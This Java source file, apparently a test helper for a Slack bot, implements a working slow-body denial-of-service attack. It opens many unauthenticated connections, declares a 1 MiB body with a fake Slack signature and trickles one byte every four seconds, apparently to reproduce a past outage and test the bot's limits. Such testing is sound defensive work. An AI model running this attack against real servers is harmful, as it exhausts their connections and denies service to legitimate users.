package dev.tracelookup.app;

import static java.nio.charset.StandardCharsets.US_ASCII;

import java.io.IOException;
import java.io.InputStream;
import java.net.Socket;
import java.net.URI;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Queue;
import java.util.concurrent.ConcurrentLinkedQueue;
import java.util.concurrent.Executors;
import java.util.concurrent.ScheduledExecutorService;
import java.util.concurrent.TimeUnit;

/**
 * Unauthenticated clients that each open {@code POST /slack/events}, declare a 1 MiB body and send
 * one byte of it every 4 s, as in the outage of issue 12. Each of the {@code connections} is driven
 * by a timer, never by a thread of its own; when the bot cuts one, it is noted with how long it
 * lived and what the bot answered, and the client connects again on its next tick, so the attack
 * keeps its size until {@link #close()}.
 */
final class SlowBodyAttack implements AutoCloseable {
  static final int DECLARED_BYTES = 1 << 20;
  static final Duration TICK = Duration.ofSeconds(4);

  /** One connection the bot ended: how long it lived, and the status line it sent, if any. */
  record Cut(Duration lived, String statusLine) {}

  private final URI bot;
  private final ScheduledExecutorService timer =
      Executors.newScheduledThreadPool(
          2,
          runnable -> {
            Thread thread = new Thread(runnable, "slow-body-attack");
            thread.setDaemon(true);
            return thread;
          });
  private final Queue<Cut> cuts = new ConcurrentLinkedQueue<>();
  private final List<Client> clients = new ArrayList<>();
  private volatile boolean stopped;

  SlowBodyAttack(URI bot, int connections) {
    this.bot = bot;
    for (int i = 0; i < connections; i++) {
      Client client = new Client();
      clients.add(client);
      // Spread over one tick, as 200 independent clients would be.
      timer.scheduleAtFixedRate(
          client::tick, TICK.toMillis() * i / connections, TICK.toMillis(), TimeUnit.MILLISECONDS);
    }
  }

  /** Returns the connections the bot has ended so far. */
  List<Cut> cuts() {
    return List.copyOf(cuts);
  }

  /** Returns how many connections are open now. */
  long open() {
    return clients.stream().filter(Client::connected).count();
  }

  @Override
  public void close() throws InterruptedException {
    stopped = true;
    timer.shutdownNow();
    timer.awaitTermination(5, TimeUnit.SECONDS);
    clients.forEach(Client::disconnect);
  }

  /**
   * One attacker: connects, then sends one byte per tick, and notices when the bot answers or
   * closes.
   */
  private final class Client {
    private Socket socket;
    private Instant connectedAt;

    synchronized boolean connected() {
      return socket != null;
    }

    synchronized void tick() {
      if (stopped) {
        return;
      }
      try {
        if (socket == null) {
          connect();
        } else if (!answered()) {
          socket.getOutputStream().write('a');
          socket.getOutputStream().flush();
        }
      } catch (IOException cut) {
        noteCut(null);
      }
    }

    private void connect() throws IOException {
      socket = new Socket(bot.getHost(), bot.getPort());
      socket.setSoTimeout(1000);
      connectedAt = Instant.now();
      String head =
          "POST /slack/events HTTP/1.1\r\nHost: "
              + bot.getHost()
              + "\r\n"
              + "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: "
              + DECLARED_BYTES
              + "\r\n"
              + "X-Slack-Request-Timestamp: "
              + Instant.now().getEpochSecond()
              + "\r\nX-Slack-Signature: v0=00\r\n\r\nt";
      socket.getOutputStream().write(head.getBytes(US_ASCII));
      socket.getOutputStream().flush();
    }

    /** Returns true, and notes the cut, when the bot has answered or closed the connection. */
    private boolean answered() throws IOException {
      InputStream in = socket.getInputStream();
      if (in.available() == 0 && !socket.isInputShutdown()) {
        return false;
      }
      byte[] line = new byte[64];
      int n = in.read(line);
      noteCut(n <= 0 ? null : new String(line, 0, n, US_ASCII).lines().findFirst().orElse(""));
      return true;
    }

    private void noteCut(String statusLine) {
      if (socket != null) {
        cuts.add(new Cut(Duration.between(connectedAt, Instant.now()), statusLine));
      }
      disconnect();
    }

    synchronized void disconnect() {
      if (socket != null) {
        try {
          socket.close();
        } catch (IOException ignored) {
          // Already gone.
        }
        socket = null;
      }
    }
  }
}
